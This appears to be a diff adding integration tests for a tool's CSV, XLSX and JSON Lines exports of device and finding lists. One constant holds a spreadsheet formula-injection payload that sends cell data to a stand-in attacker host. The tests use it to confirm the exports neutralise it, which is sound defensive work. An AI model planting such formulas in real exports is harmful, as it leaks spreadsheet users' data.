@@ -1,0 +1,255 @@
+/**
+ * Exports of the Devices and Findings lists over real HTTP and through `joinscope export`: each format read back
+ * (CSV with csv-parse, XLSX with exceljs, JSON Lines line by line) against what the lists themselves show, on a
+ * simulated tenant of 2,400 directory objects (more than two of the export's 1,000-row batches) with the agents'
+ * reports, one of them named like a spreadsheet formula. Runs on SQLite and PostgreSQL.
+ */
+import { mkdtempSync, readFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { parse } from "csv-parse/sync";
+import ExcelJS from "exceljs";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { createAgentToken } from "@/lib/agent-tokens/create-agent-token";
+import { db } from "@/lib/db/client";
+import { directDb } from "@/lib/db/direct";
+import { DEVICE_EXPORT_COLUMNS } from "@/lib/export/device-export-source";
+import { FINDING_EXPORT_COLUMNS } from "@/lib/export/finding-export-source";
+import { flushFindingsQueue } from "@/lib/findings/findings-queue";
+import { ingestReport } from "@/lib/ingest/ingest-report";
+import { findDevices } from "@/lib/queries/find-devices";
+import { findFindings } from "@/lib/queries/find-findings";
+import { runSync } from "@/lib/sync/run-sync";
+import { createTenant } from "@/lib/tenants/create-tenant";
+import { setTenantApp } from "@/lib/tenants/set-tenant-app";
+import { DEFAULT_DEVICE_LIST_PARAMS, type DeviceListParams } from "@/lib/ui/device-list-params";
+import { DEFAULT_FINDING_LIST_PARAMS } from "@/lib/ui/finding-list-params";
+import { createSimTenant } from "@/simulator/create-sim-tenant";
+import { startSimulator, type SimulatorHandle } from "@/simulator/server";
+import { signedInCookie, startAdminApiServer, type AdminApiServer } from "../setup/admin-api-server";
+import { runJoinscope } from "../setup/run-joinscope";
+
+/** A display name an attacker could give a device they registered: a spreadsheet would run it as a formula. */
+const FORMULA_NAME = '=HYPERLINK("http://attacker.example/?x="&A1,"Open")';
+const DEVICES = 2_400;
+
+let sim: SimulatorHandle | undefined;
+let server: AdminApiServer;
+let cookie: string;
+let tenantRef: string;
+let entraTenantId: string;
+let formulaObjectId: string;
+
+beforeAll(async () => {
+  const now = new Date();
+  const created = createSimTenant({ seed: 4242, deviceCount: DEVICES, now, includeReports: true });
+  const store = created.tenant;
+  const target = store.devices.find((d) => d.trustType === "ServerAd")!;
+  target.displayName = FORMULA_NAME;
+  formulaObjectId = target.id;
+  sim = await startSimulator({ tenants: [store] });
+  const t = await createTenant(db, { tenantId: store.tenantId, name: "Contoso Export", actor: "test" });
+  if (!t.ok) throw new Error(t.error.message);
+  tenantRef = t.id;
+  entraTenantId = store.tenantId;
+  const app = await setTenantApp(db, {
+    tenantRef,
+    cloud: "custom",
+    authorityHost: sim.authorityHost,
+    graphBaseUrl: sim.graphBaseUrl,
+    clientId: store.clientId,
+    credential: { kind: "secret", clientSecret: store.clientSecret! },
+    actor: "test",
+  });
+  if (!app.ok) throw new Error(app.error.message);
+  const sync = await runSync(db, { tenantRef, mode: "full", trigger: "test", resilience: { sleep: async () => undefined, baseDelayMs: 1 } });
+  if (!sync.ok) throw new Error(sync.error.message);
+  const token = await createAgentToken(db, { tenantRef, name: "agents", actor: "test" });
+  if (!token.ok) throw new Error("token");
+  const agent = { tokenId: token.id, tenantRef, tenantId: store.tenantId };
+  for (const r of created.generated!.reports.slice(0, 300)) {
+    const body = { hostname: r.hostname, capturedAt: r.capturedAt, agentVersion: r.agentVersion, dsregcmd: r.dsregcmd, events: r.events, ...(r.computerDn ? { computerDn: r.computerDn } : {}) };
+    const res = await ingestReport(db, { agent, body });
+    if (!res.ok) throw new Error(`${r.hostname}: ${res.error.message}`);
+  }
+  await flushFindingsQueue();
+  server = await startAdminApiServer();
+  cookie = await signedInCookie(db);
+}, 240_000);
+
+afterAll(async () => {
+  await flushFindingsQueue();
+  await server?.close();
+  await sim?.close();
+});
+
+async function download(path: string): Promise<{ res: Response; body: Buffer }> {
+  const res = await fetch(`${server.url}${path}${path.includes("?") ? "&" : "?"}tenant=${tenantRef}`, { headers: { cookie } });
+  expect(res.status, path).toBe(200);
+  return { res, body: Buffer.from(await res.arrayBuffer()) };
+}
+
+function readCsv(body: Buffer): { header: string[]; rows: Record<string, string>[] } {
+  const text = body.toString("utf8");
+  expect(text.startsWith("\uFEFF"), "UTF-8 BOM").toBe(true);
+  const [header, ...cells] = parse(text.slice(1), { relax_column_count: false }) as string[][];
+  return { header: header!, rows: cells.map((c) => Object.fromEntries(header!.map((h, i) => [h, c[i]!]))) };
+}
+
+async function readXlsx(body: Buffer): Promise<{ header: string[]; rows: ExcelJS.CellValue[][]; sheet: ExcelJS.Worksheet }> {
+  const workbook = new ExcelJS.Workbook();
+  await workbook.xlsx.load(body as unknown as ArrayBuffer);
+  const sheet = workbook.worksheets[0]!;
+  const all: ExcelJS.CellValue[][] = [];
+  sheet.eachRow({ includeEmpty: false }, (row) => all.push((row.values as ExcelJS.CellValue[]).slice(1)));
+  const [header, ...rows] = all;
+  return { header: header as string[], rows, sheet };
+}
+
+function readJsonl(body: Buffer): Record<string, unknown>[] {
+  const text = body.toString("utf8");
+  expect(text.endsWith("\n")).toBe(true);
+  return text
+    .slice(0, -1)
+    .split("\n")
+    .map((line) => JSON.parse(line) as Record<string, unknown>);
+}
+
+const deviceParams = (p: Partial<DeviceListParams>) => ({ ...DEFAULT_DEVICE_LIST_PARAMS, ...p });
+const deviceKeys = DEVICE_EXPORT_COLUMNS.map((c) => c.key);
+
+describe("GET /api/v1/devices/export", () => {
+  it("CSV: every device of the tenant in the list's order, with a BOM, the formula-looking name neutralised", async () => {
+    const { res, body } = await download("/api/v1/devices/export?format=csv");
+    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="joinscope-devices-contoso-export-\d{4}-\d{2}-\d{2}\.csv"$/);
+    const { header, rows } = readCsv(body);
+    expect(header).toEqual(deviceKeys);
+    const page = await findDevices(directDb(), { tenantRef, params: DEFAULT_DEVICE_LIST_PARAMS });
+    expect(page.total).toBeGreaterThan(2_000);
+    expect(rows.length).toBe(page.total);
+    expect(new Set(rows.map((r) => `${r.subjectKey}|${r.objectId}`)).size).toBe(rows.length);
+    expect(rows.slice(0, page.rows.length).map((r) => r.name)).toEqual(page.rows.map((r) => r.name));
+    const formula = rows.find((r) => r.objectId === formulaObjectId)!;
+    expect(formula.name).toBe(`'${FORMULA_NAME}`);
+    expect(rows.filter((r) => /^[=+\-@\t\r]/.test(r.name!))).toEqual([]);
+  });
+
+  it("a filter and a sort of the list are the export's: name order across batches, trust type, search", async () => {
+    const byName = readCsv((await download("/api/v1/devices/export?sort=name&dir=desc&trust=ServerAd")).body).rows;
+    const page = await findDevices(directDb(), { tenantRef, params: deviceParams({ sort: "name", dir: "desc", trust: "ServerAd" }) });
+    expect(byName.length).toBe(page.total);
+    expect(byName.every((r) => r.trustType === "ServerAd")).toBe(true);
+    const keys = byName.map((r) => r.name!.replace(/^'/, "").toLowerCase());
+    expect(keys).toEqual([...keys].sort().reverse());
+    expect(byName.slice(0, 50).map((r) => r.subjectKey)).toEqual(page.rows.map((r) => r.subjectKey));
+
+    const q = page.rows[3]!.name.slice(0, 6);
+    const searched = readCsv((await download(`/api/v1/devices/export?q=${encodeURIComponent(q)}`)).body).rows;
+    const found = await findDevices(directDb(), { tenantRef, params: deviceParams({ q }) });
+    expect(searched.length).toBe(found.total);
+    expect(searched.length).toBeGreaterThan(0);
+  });
+
+  it("subject= exports the selected rows only, by row key or subject key", async () => {
+    const page = await findDevices(directDb(), { tenantRef, params: DEFAULT_DEVICE_LIST_PARAMS });
+    const picked = [page.rows[0]!, page.rows[7]!, page.rows[20]!];
+    const query = picked.map((r) => `subject=${encodeURIComponent(r.rowKey)}`).join("&");
+    const rows = readJsonl((await download(`/api/v1/devices/export?format=jsonl&${query}`)).body);
+    expect(rows.map((r) => r.name)).toEqual(picked.map((r) => r.name));
+  });
+
+  it("XLSX: a worksheet with the same rows, values typed, the formula-looking name a text cell (never a formula)", async () => {
+    const { res, body } = await download("/api/v1/devices/export?format=xlsx");
+    expect(res.headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
+    const csv = readCsv((await download("/api/v1/devices/export")).body).rows;
+    const { header, rows, sheet } = await readXlsx(body);
+    expect(header).toEqual(deviceKeys);
+    expect(rows.length).toBe(csv.length);
+    const nameCol = deviceKeys.indexOf("name");
+    const openCol = deviceKeys.indexOf("openFindings");
+    expect(rows.map((r) => String(r[nameCol]))).toEqual(csv.map((r) => r.name!.replace(/^'(?=[=+\-@\t\r])/, "")));
+    expect(rows.every((r) => typeof r[openCol] === "number")).toBe(true);
+    const formulaRow = rows.findIndex((r) => r[nameCol] === FORMULA_NAME);
+    expect(formulaRow).toBeGreaterThanOrEqual(0);
+    const cell = sheet.getRow(formulaRow + 2).getCell(nameCol + 1);
+    expect(cell.type).toBe(ExcelJS.ValueType.String);
+    expect(cell.formula).toBeUndefined();
+  });
+
+  it("JSON Lines: one object per device, typed, keys in column order", async () => {
+    const rows = readJsonl((await download("/api/v1/devices/export?format=jsonl&state=live")).body);
+    const page = await findDevices(directDb(), { tenantRef, params: deviceParams({ state: "live" }) });
+    expect(rows.length).toBe(page.total);
+    expect(Object.keys(rows[0]!)).toEqual(deviceKeys);
+    expect(rows.every((r) => r.state === "live" && typeof r.openFindings === "number" && Array.isArray(r.openRules))).toBe(true);
+    expect(rows.find((r) => r.objectId === formulaObjectId)?.name).toBe(FORMULA_NAME);
+  });
+});
+
+describe("GET /api/v1/findings/export", () => {
+  it("without a format: CSV of the open findings, as the Findings page's link always downloaded", async () => {
+    const { res, body } = await download("/api/v1/findings/export");
+    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+    const { header, rows } = readCsv(body);
+    expect(header).toEqual(FINDING_EXPORT_COLUMNS.map((c) => c.key));
+    const total = await db.finding.count({ where: { tenantRef, status: "open" } });
+    expect(total).toBeGreaterThan(1_000);
+    expect(rows.length).toBe(total);
+    expect(new Set(rows.map((r) => `${r.deviceId}|${r.objectId}|${r.hostname}|${r.rule}`)).size).toBe(rows.length);
+    // Most severe first (by rank): the severities never go back up.
+    const page = await findFindings(db, { tenantRef, params: DEFAULT_FINDING_LIST_PARAMS });
+    expect(rows[0]!.rule).toBe(page.rows[0]!.rule);
+  });
+
+  it("filters, formats and selection: severity in XLSX, a rule in JSON Lines with structured evidence, subject= for selected devices", async () => {
+    const high = await db.finding.count({ where: { tenantRef, status: "open", severity: "high" } });
+    const xlsx = await readXlsx((await download("/api/v1/findings/export?format=xlsx&severity=high")).body);
+    expect(xlsx.rows.length).toBe(high);
+    expect(xlsx.rows.every((r) => r[0] === "high")).toBe(true);
+
+    const rule = (await db.finding.findFirstOrThrow({ where: { tenantRef, status: "open" }, select: { rule: true } })).rule;
+    const lines = readJsonl((await download(`/api/v1/findings/export?format=jsonl&rule=${rule}`)).body);
+    expect(lines.length).toBe(await db.finding.count({ where: { tenantRef, status: "open", rule } }));
+    expect(lines.every((l) => l.rule === rule && Array.isArray(l.evidence) && Array.isArray(l.remediation) && typeof l.primary === "boolean")).toBe(true);
+
+    const subjects = (await db.finding.findMany({ where: { tenantRef, status: "open" }, distinct: ["subjectKey"], select: { subjectKey: true }, take: 2 })).map((f) => f.subjectKey);
+    const selected = readCsv((await download(`/api/v1/findings/export?status=all&${subjects.map((s) => `subject=${encodeURIComponent(s)}`).join("&")}`)).body).rows;
+    expect(selected.length).toBe(await db.finding.count({ where: { tenantRef, subjectKey: { in: subjects } } }));
+  });
+});
+
+describe("joinscope export", () => {
+  it("writes each format to a file, with the list's filters, and no progress bar when stderr is not a terminal", async () => {
+    const dir = mkdtempSync(join(tmpdir(), "joinscope-export-"));
+    const csvFile = join(dir, "devices.csv");
+    const r = await runJoinscope(["export", "--what", "devices", "--format", "csv", "--tenant", entraTenantId, "--trust", "ServerAd", "--output", csvFile]);
+    expect(r.stderr).toBe("");
+    expect(r.code).toBe(0);
+    const rows = readCsv(readFileSync(csvFile)).rows;
+    const page = await findDevices(directDb(), { tenantRef, params: deviceParams({ trust: "ServerAd" }) });
+    expect(rows.length).toBe(page.total);
+    expect(rows.find((row) => row.objectId === formulaObjectId)?.name).toBe(`'${FORMULA_NAME}`);
+
+    const jsonl = await runJoinscope(["export", "--what", "findings", "--format", "jsonl", "--tenant", "Contoso Export", "--filter", "severity=high"]);
+    expect(jsonl.code).toBe(0);
+    const lines = readJsonl(Buffer.from(jsonl.stdout));
+    expect(lines.length).toBe(await db.finding.count({ where: { tenantRef, status: "open", severity: "high" } }));
+
+    const xlsxFile = join(dir, "findings.xlsx");
+    const x = await runJoinscope(["export", "--what", "findings", "--format", "xlsx", "--filter", "status=all", "--output", xlsxFile]);
+    expect(x.code).toBe(0);
+    expect((await readXlsx(readFileSync(xlsxFile))).rows.length).toBe(await db.finding.count({ where: { tenantRef } }));
+  });
+
+  it("answers --help with exit 0 and a usage error with exit 2", async () => {
+    const help = await runJoinscope(["export", "--help"]);
+    expect(help.code).toBe(0);
+    expect(help.stdout).toContain("joinscope export --what devices|findings");
+    for (const args of [["export", "--what", "reports"], ["export", "--what", "devices", "--format", "pdf"], ["export", "--what", "devices", "--filter", "colour=red"], ["export", "--bogus"]]) {
+      const r = await runJoinscope(args);
+      expect(r.code, args.join(" ")).toBe(2);
+      expect(r.stderr).toContain("usage: joinscope export");
+    }
+  });
+});
